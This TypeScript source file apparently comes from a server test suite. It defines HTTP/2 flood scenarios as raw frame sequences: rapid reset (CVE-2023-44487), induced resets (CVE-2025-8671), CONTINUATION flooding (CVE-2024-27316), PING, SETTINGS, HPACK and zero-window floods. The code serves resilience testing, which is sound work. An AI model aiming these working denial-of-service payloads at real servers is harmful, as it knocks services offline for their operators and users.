/** Floods of HTTP/2 clients (RFC 9113 §10.5), over TLS beside HTTP/1.1. */
import {
  block,
  clientPreface,
  END_HEADERS,
  END_STREAM,
  frame,
  uint32,
} from '@reverseit/test-servers/http2-frames';
import type { FloodConnection } from '../connection.ts';
import { type Flood, prefix } from '../flood.ts';

const HEADERS = 1;
const PRIORITY = 2;
const RST_STREAM = 3;
const SETTINGS = 4;
const PING = 6;
const WINDOW_UPDATE = 8;
const CONTINUATION = 9;

const fields = (path: string, method = 'GET'): Buffer =>
  block(':method', method, ':scheme', 'https', ':path', `${prefix}${path}`, ':authority', 'a');
const get = (id: number, path = '/bytes/24'): Buffer =>
  frame(HEADERS, END_HEADERS | END_STREAM, id, fields(path));
const post = (id: number): Buffer => frame(HEADERS, END_HEADERS, id, fields('/', 'POST'));

/** Whole streams, about a megabyte. A client that has sent all of them starts again on another connection. */
const streams = (of: (id: number) => readonly Buffer[], count = 5000): Buffer =>
  Buffer.concat(Array.from({ length: count }, (_, nth) => of(2 * nth + 1)).flat());

const once = (bytes: Buffer) => (connection: FloodConnection) => {
  connection.send(clientPreface());
  connection.send(bytes);
};

/** Poured in pieces of many frames: one frame a write would be a flood of system calls at the attacker. */
const pour = (beginning: Buffer, piece: Buffer) => (connection: FloodConnection) => {
  connection.send(Buffer.concat([clientPreface(), beginning]));
  connection.pour(Buffer.concat(new Array<Buffer>(1000).fill(piece)));
};

const flood = (name: string, what: string, start: Flood['start'], more = {}): Flood => ({
  name: `HTTP/2: ${name}`,
  what,
  tls: true,
  client: 'tls-http2',
  options: { protocols: ['http2', 'http1'] },
  ours: true,
  start,
  ...more,
});

const nothing = Buffer.alloc(0);
const local = { local: true } as const;

export const http2ClientFloods: readonly Flood[] = [
  flood(
    'rapid resets',
    'requests that are reset at once (CVE-2023-44487)',
    once(streams((id) => [get(id), frame(RST_STREAM, 0, id, uint32(8))])),
  ),
  flood(
    'resets of ours',
    'requests that we are made to reset (CVE-2025-8671)',
    once(streams((id) => [get(id), frame(WINDOW_UPDATE, 0, id, uint32(0))])),
  ),
  flood(
    'many streams',
    'requests far beyond maxConcurrentStreams',
    once(streams((id) => [get(id)])),
  ),
  flood(
    'malformed requests',
    'requests with a field in upper case',
    once(
      streams((id) => [
        frame(HEADERS, END_HEADERS | END_STREAM, id, Buffer.concat([fields('/'), block('X', 'y')])),
      ]),
    ),
    local,
  ),
  flood('PING', 'PING without end', pour(nothing, frame(PING, 0, 0, Buffer.alloc(8))), local),
  flood('SETTINGS', 'SETTINGS without end', pour(nothing, frame(SETTINGS, 0, 0)), local),
  flood(
    'PRIORITY',
    'PRIORITY without end',
    pour(nothing, frame(PRIORITY, 0, 1, Buffer.from([0, 0, 0, 3, 1]))),
    local,
  ),
  flood(
    'WINDOW_UPDATE',
    'WINDOW_UPDATE without end',
    pour(nothing, frame(WINDOW_UPDATE, 0, 0, uint32(1))),
    local,
  ),
  flood('unknown frames', 'frames of no type', pour(nothing, frame(0xbb, 0, 0)), local),
  flood('empty DATA', 'DATA of no bytes', pour(post(1), frame(0, 0, 1))),
  flood('DATA of one byte', 'a body in DATA of one byte', pour(post(1), frame(0, 0, 1, 'a'))),
  flood(
    'padded DATA',
    'a body of padding',
    pour(post(1), frame(0, 8, 1, Buffer.concat([Buffer.from([255]), Buffer.alloc(255)]))),
  ),
  flood(
    'CONTINUATION',
    'a header block without end (CVE-2024-27316)',
    pour(frame(HEADERS, 0, 1, fields('/')), frame(CONTINUATION, 0, 1)),
    local,
  ),
  flood(
    'HPACK references',
    'header blocks of one byte for each field',
    once(
      streams(
        (id) => [
          frame(
            HEADERS,
            END_HEADERS | END_STREAM,
            id,
            Buffer.concat([fields('/'), block('x', 'y'.repeat(4000)), Buffer.alloc(12_000, 0x90)]),
          ),
        ],
        200,
      ),
    ),
    local,
  ),
  flood('closed windows', 'requests whose responses have no window', (connection) => {
    connection.send(
      Buffer.concat([
        clientPreface(),
        frame(SETTINGS, 0, 0, Buffer.from([0, 4, 0, 0, 0, 0])),
        streams((id) => [get(id, '/bytes/1048576')], 100),
      ]),
    );
  }),
  flood(
    'PING, unread',
    'PING without end from who reads nothing',
    (connection) => {
      connection.pause();
      pour(nothing, frame(PING, 0, 0, Buffer.alloc(8)))(connection);
    },
    local,
  ),
];
